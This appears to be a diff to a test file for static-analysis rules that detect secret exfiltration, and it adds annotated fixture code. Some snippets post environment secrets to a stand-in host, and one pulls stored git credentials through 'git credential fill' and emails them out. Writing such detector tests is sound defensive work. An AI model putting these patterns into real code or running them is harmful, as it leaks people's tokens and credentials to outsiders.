@@ -371,3 +371,40 @@ def _gh_token():
     return ""
 # ruleid: secret-to-ip-address, http-client, requests-no-timeout
 requests.get("https://198.51.100.140/api/v3/rate_limit", headers={"Authorization": f"token {_gh_token()}"})
+# the environment reaches the request through two helpers: one builds the
+# summary, the other returns the filtered environment it holds
+def _ctx_vars():
+    marks = ("KEY", "TOKEN", "SECRET")
+    return {k: v for k, v in os.environ.items() if any(m in k for m in marks)}
+def _summary(n):
+    return {"rows": n, "context": _ctx_vars()}
+def _ship(summary):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://usage.example.com/v2", json=summary, timeout=4)
+_ship(_summary(3))
+# stored git credentials, asked of the credential helper, mailed out in a
+# message body
+import subprocess
+from email.message import EmailMessage
+def _git(*args, stdin=None):
+    return subprocess.run(["git", *args], input=stdin, capture_output=True, text=True).stdout
+def _creds(host):
+    return _git("credential", "fill", stdin=f"protocol=https\nhost={host}\n\n")
+def _notify(details):
+    msg = EmailMessage()
+    msg["To"] = "bot@notify.example.org"
+    msg.set_content(f"release pushed\n{details}")
+    # ruleid: clear-text-protocol-client
+    with smtplib.SMTP("smtp.notify.example.org", 587) as s:
+        # ruleid: secret-exfiltration
+        s.send_message(msg)
+_notify(_creds("github.com"))
+# a report of the task's own results mailed the same way is fine
+def _notify_ok(rows):
+    msg = EmailMessage()
+    msg.set_content(f"{rows} rows cleaned")
+    # ruleid: clear-text-protocol-client
+    with smtplib.SMTP("smtp.example.org", 587) as s:
+        # ok: secret-exfiltration
+        s.send_message(msg)
+_notify_ok(12)
